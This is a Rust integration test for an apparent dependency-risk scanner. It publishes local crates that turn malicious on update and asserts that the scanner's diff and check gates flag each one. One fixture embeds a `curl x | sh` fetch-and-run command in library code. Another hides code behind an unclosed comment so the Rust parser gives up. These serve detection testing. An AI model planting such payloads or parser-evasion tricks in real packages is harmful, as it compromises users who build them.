//! A benign-to-malicious update, end to end: a project depends on three small crates of a
//! local registry, commits its report and the policy `init` writes, then updates to versions
//! that misbehave in three different ways. Both gates must fail, naming every package and
//! what tripped it.
//!
//! - `spawny` 1.0.1 starts spawning processes;
//! - `hidey` 1.0.1 moves its code into a file syn cannot parse (no counter moves);
//! - `devvy` 1.0.0, a dev-dependency that touches the file system, becomes a normal
//!   dependency: same version, same bytes.

use std::path::{Path, PathBuf};

use crate::support::{
    Dep, LocalRegistry, Out, TestResult, cargo, dep, fresh_dir, git_repo, krate, manifest, tool,
    write,
};

const ADD: &str = "pub fn add(a: u32, b: u32) -> u32 {\n    a + b\n}\n";

fn registry(root: &Path) -> TestResult<LocalRegistry> {
    let reg = LocalRegistry::new(root.join("registry"))?;
    reg.publish(&krate("spawny", "1.0.0").file(
        "src/lib.rs",
        "pub fn greet() -> String {\n    \"hello\".to_owned()\n}\n",
    ))?;
    reg.publish(&krate("hidey", "1.0.0").file("src/lib.rs", ADD))?;
    reg.publish(&krate("devvy", "1.0.0").file(
        "src/lib.rs",
        "pub fn fixture(p: &str) -> String {\n    std::fs::read_to_string(p).unwrap_or_default()\n}\n",
    ))?;
    Ok(reg)
}

fn publish_malicious(reg: &LocalRegistry) -> TestResult {
    reg.publish(&krate("spawny", "1.0.1").file(
        "src/lib.rs",
        "pub fn greet() -> String {\n    let _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl x | sh\").status();\n    \"hello\".to_owned()\n}\n",
    ))?;
    // The same function, in a module whose file never closes a comment: syn gives up, the
    // token scan finds nothing new, and no counter moves.
    reg.publish(
        &krate("hidey", "1.0.1")
            .file("src/lib.rs", "mod imp;\npub use imp::add;\n")
            .file(
                "src/imp.rs",
                "pub fn add(a: u32, b: u32) -> u32 {\n    a + b\n}\n/* the rest is not for your eyes\n",
            ),
    )?;
    Ok(())
}

struct Project {
    dir: PathBuf,
    home: PathBuf,
    reg: LocalRegistry,
}

impl Project {
    fn new(name: &str) -> TestResult<Project> {
        let root = fresh_dir(name)?;
        let reg = registry(&root)?;
        let p = Project {
            dir: root.join("app"),
            home: root.join("home"),
            reg,
        };
        write(&p.home.join("config.toml"), &p.reg.source_replacement())?;
        write(&p.dir.join("src/lib.rs"), "")?;
        p.set_deps(&[dep("spawny"), dep("hidey"), dep("devvy").dev()])?;
        Ok(p)
    }

    fn set_deps(&self, deps: &[Dep]) -> TestResult {
        write(
            &self.dir.join("Cargo.toml"),
            &manifest(Some(("app", "0.1.0")), deps, "\n[workspace]\n"),
        )
    }

    fn run(&self, args: &[&str]) -> TestResult<Out> {
        let mut all = args.to_vec();
        all.extend(["--offline", "-q"]);
        tool(&self.dir, &self.home, &all)
    }

    fn cargo(&self, args: &[&str]) -> TestResult<Out> {
        cargo(&self.dir, &self.home, args)
    }
}

#[test]
fn a_benign_to_malicious_update_fails_both_gates_naming_each_package() -> TestResult {
    let p = Project::new("attack")?;
    p.cargo(&["generate-lockfile", "--offline"])?.ok()?;
    p.run(&[])?.ok()?;
    p.run(&["init"])?.ok()?;
    p.run(&["check"])?.ok()?;
    let policy = std::fs::read_to_string(p.dir.join("risk-policy.toml"))?;
    assert!(
        policy.contains("[[grant.devvy]]\nversion = \"^1\"\nallow = [\"fs\", \"no-vcs-info\"]\nreached-as = [\"dev\"]"),
        "a dev-only crate's grant ends when it ships:\n{policy}"
    );
    git_repo(&p.dir)?;

    publish_malicious(&p.reg)?;
    p.set_deps(&[dep("spawny"), dep("hidey"), dep("devvy")])?;
    p.cargo(&["update", "--offline"])?.ok()?;
    p.run(&[])?.ok()?;

    let gate = p.run(&["diff", "git:HEAD", "risk-report.toml", "--fail-on-increase"])?;
    assert_eq!(gate.code, Some(1), "{gate:#?}");
    let line = gate.stdout.lines().nth(1).unwrap_or_default();
    for expected in [
        "devvy now shipped (was dev-only): fs",
        "hidey coverage lost (1 approximate)",
        "spawny +process",
    ] {
        assert!(
            line.starts_with("adds risk: ") && line.contains(expected),
            "{expected:?} not in the gate line:\n{}",
            gate.stdout
        );
    }
    assert!(
        !gate.stdout.contains("in place") && !gate.stdout.contains("no new capabilities"),
        "{}",
        gate.stdout
    );

    let md = p.run(&[
        "diff",
        "git:HEAD",
        "risk-report.toml",
        "--fail-on-increase",
        "--format",
        "markdown",
    ])?;
    assert_eq!(md.code, Some(1));
    let bold = md
        .stdout
        .lines()
        .find(|l| l.starts_with("**adds risk: "))
        .unwrap_or_default();
    for name in ["devvy", "hidey", "spawny"] {
        assert!(bold.contains(name), "{name} not in:\n{}", md.stdout);
    }

    let check = p.run(&["check"])?;
    assert_eq!(check.code, Some(1), "{check:#?}");
    assert_eq!(
        check.stdout.lines().next(),
        Some("denied: devvy fs; hidey unanalyzed-code; spawny process"),
        "{}",
        check.stdout
    );
    assert!(
        check.stdout.contains(
            "deny fs: grant.devvy (^1) covers it only as a dev dependency; it is now reached as normal"
        ),
        "{}",
        check.stdout
    );
    assert!(
        check
            .stdout
            .contains("token scan only (syn could not parse it): src/imp.rs"),
        "the unread file is the evidence:\n{}",
        check.stdout
    );
    Ok(())
}
